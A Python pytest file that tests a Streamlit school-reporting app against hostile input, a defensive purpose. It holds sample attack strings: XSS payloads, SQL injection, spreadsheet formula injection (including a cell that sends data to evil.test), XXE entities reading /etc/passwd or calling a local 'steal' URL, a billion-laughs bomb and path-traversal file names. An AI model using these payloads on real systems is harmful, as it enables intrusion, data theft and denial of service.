"""Attacks by what stands in a file or a field: names that are scripts, formulas or SQL, workbooks that are bombs."""

from __future__ import annotations

import contextlib
import csv
import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from streamlit import config
from streamlit.testing.v1 import AppTest

from sro.intake import put_aside
from sro.publish import presets
from sro.publish.desk import desk
from sro.publish.pack import index_page
from sro.screen import here
from sro.settings import PROJECT
from sro.vintages import check, current
from tests.office import SERVED, load_office, settings_in, write

SCRIPT, IMAGE = "<script>alert(1)</script>", "<img src=x onerror=alert(2)>"
FORMULA, SQL = "=cmd|' /c calc'!A1", "'; DROP TABLE meta.fact; --"
LINK = "[click](javascript:alert(3))"
HOSTILE = (SCRIPT, IMAGE, SQL, LINK, '"><svg onload=alert(4)>', "{{7*7}}", "${7*7}", "%s%n", "\u202eevil")
FORMULAS = (FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1")


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    """Schools, a district and an event whose names attack whoever shows them."""
    home = tmp_path_factory.mktemp("hostile")
    settings = settings_in(home / "home")
    rows = [f"S{n},D1,{quoted(name)},middle" for n, name in enumerate(HOSTILE)]
    hostile = {
        "districts.csv": f"district_id,name\nD1,{quoted(SCRIPT)}\n",
        "schools.csv": "school_id,district_id,name,level\nA,D1,Alder School,middle\nB,D1,Birch School,high\n"
        + "\n".join(rows) + "\n",
        "annotations.csv": "annotation_id,date,scope,scope_id,kind,label\n"
        f"E1,2025-09-08,program,,policy,{quoted(SCRIPT)}\nE2,2025-09-09,program,,policy,{quoted(IMAGE)}\n",
    }  # fmt: skip
    report = load_office(write(home / "export", SERVED, hostile), settings)
    assert report.is_good, "\n".join(report.lines())
    return settings


@pytest.fixture
def opened(office, monkeypatch):
    monkeypatch.setenv("SRO_DATA", str(office.folders.data))
    here.settings.cache_clear()

    def screen(page: str = "", **query: str) -> AppTest:
        app = AppTest.from_file(str(PROJECT / "sro" / "screen" / "house.py"), default_timeout=60)
        for name, value in query.items():
            app.query_params[name] = value
        app.run()
        return app.switch_page(str(PROJECT / "pages" / f"{page}.py")).run() if page else app

    yield screen
    here.settings.cache_clear()


def markup(app: AppTest) -> str:
    return " ".join(one.proto.body for one in app.get("html"))


@pytest.mark.parametrize("page", ["", "engagement", "incidents", "coverage", "school", "quality", "reports", "trail"])
def test_no_name_of_a_school_district_or_event_becomes_markup(opened, page):
    app = opened(page)
    assert not app.exception and "could not be drawn" not in str(app.error)
    shown = markup(app)
    assert SCRIPT not in shown and IMAGE not in shown and "<svg onload" not in shown


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_the_profile_of_a_school_whose_name_attacks_shows_it_as_text(opened, number):
    app = opened("school", schools=f"S{number}")
    name = HOSTILE[number]
    assert name not in markup(app) if "<" in name else not app.exception


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("field", ["period", "schools", "districts", "levels", "providers", "compare"])
def test_an_address_that_attacks_is_told_in_words_and_harms_nothing(opened, office, field, text):
    app = opened(**{field: text})
    assert not app.exception and "could not be drawn" not in str(app.error)
    assert SCRIPT not in markup(app)
    assert current(office).cursor().execute("SELECT count(*) > 0 FROM meta.fact").fetchall() == [(True,)]


@pytest.mark.parametrize(("page", "key"), [("definitions", "metric"), ("trail", "trail_words")])
@pytest.mark.parametrize("text", [SQL, SCRIPT, "%", "\\", "a" * 5000])
def test_a_search_field_takes_any_text(opened, page, key, text):
    app = opened(page)
    app.text_input(key=key).set_value(text).run()
    assert not app.exception and "could not be drawn" not in str(app.error) and SCRIPT not in markup(app)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_that_comes_in_is_refused_with_its_place_and_cannot_run_in_the_report(tmp_path, formula):
    rows = f"school_id,district_id,name,level\nA,D1,{quoted(formula)},middle\nB,D1,Birch School,high\n"
    settings = settings_in(tmp_path / "home")
    report = load_office(write(tmp_path / "export", {"schools.csv": rows}), settings)
    assert report.vintage is None and report.report is not None
    assert any(problem.rule == "formula" and problem.row == 2 for problem in report.problems)
    with report.report.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell]


def test_a_formula_in_a_workbook_that_comes_in_is_not_computed(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["district_id", "name"])
    sheet.append(["D1", '=HYPERLINK("http://evil.test/?"&A1,"Alder Valley")'])
    export = write(tmp_path / "export")
    (export / "districts.csv").unlink()
    book.save(export / "districts.xlsx")
    report = check(export, settings_in(tmp_path / "home"))
    assert "evil.test" not in str(report.problems)


def test_the_page_of_a_pack_shows_names_as_text(office):
    at = desk(office)
    preset = presets.read_preset(PROJECT / "data" / "presets", "board")
    collection = presets.collect(at, preset, presets.Choice("2025-26", (), ()))
    page = index_page(collection, [])
    assert "<script" not in page and "onerror=alert" not in page.replace("&lt;img src=x onerror=alert", "")


BOMB = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "billion laughs": f'<!DOCTYPE b [<!ENTITY x0 "laugh">{BOMB}]>',
    "a file of the server": '<!DOCTYPE b [<!ENTITY x9 SYSTEM "file:///etc/passwd">]>',
    "another server": '<!DOCTYPE b [<!ENTITY x9 SYSTEM "http://127.0.0.1:9/steal">]>',
}


@pytest.mark.parametrize("attack", list(ENTITIES))
@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_a_workbook_that_is_an_xml_bomb_or_reads_a_file_gets_nothing(tmp_path, attack, part):
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["district_id", "name"])
    sheet.append(["D1", "MARK"])
    whole = io.BytesIO()
    book.save(whole)
    export = write(tmp_path / "export")
    (export / "districts.csv").unlink()
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(export / "districts.xlsx", "w") as new:
        for name in old.namelist():
            text = old.read(name)
            if name == part:
                head, _, body = text.decode().partition("?>") if text.startswith(b"<?xml") else ("", "", text.decode())
                prefix = f"{head}?>" if head else ""
                text = f"{prefix}{ENTITIES[attack]}{body.replace('MARK', '&x9;')}".encode()
            new.writestr(name, text)
    began = time.monotonic()
    report = check(export, settings_in(tmp_path / "home"))
    assert time.monotonic() - began < 20
    told = "\n".join(report.lines())
    assert "root:" not in told and "laughlaugh" not in told


@pytest.mark.parametrize(
    "name", ["../../evil.csv", "/etc/evil.csv", "..", "a/../../evil.csv", "C:\\evil.csv", "..\\..\\evil.csv", ""]
)
def test_the_name_of_a_dropped_file_leads_nowhere(tmp_path, name):
    inbox = tmp_path / "deep" / "inbox"
    with contextlib.suppress(OSError):  # told in a sentence on the screen
        put_aside([(name, b"evil")], inbox)
    written = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert all(path.is_relative_to(inbox) for path in written)
    assert not Path("/etc/evil.csv").exists()


def test_an_upload_that_is_too_large_is_not_taken():
    assert config.get_option("server.maxUploadSize") == 200
    assert config.get_option("server.maxMessageSize") == 64


def test_nothing_is_told_to_anybody_of_what_people_do():
    assert config.get_option("browser.gatherUsageStats") is False
    assert config.get_option("client.showErrorDetails") == "none"
    assert config.get_option("server.enableAgentApi") is False
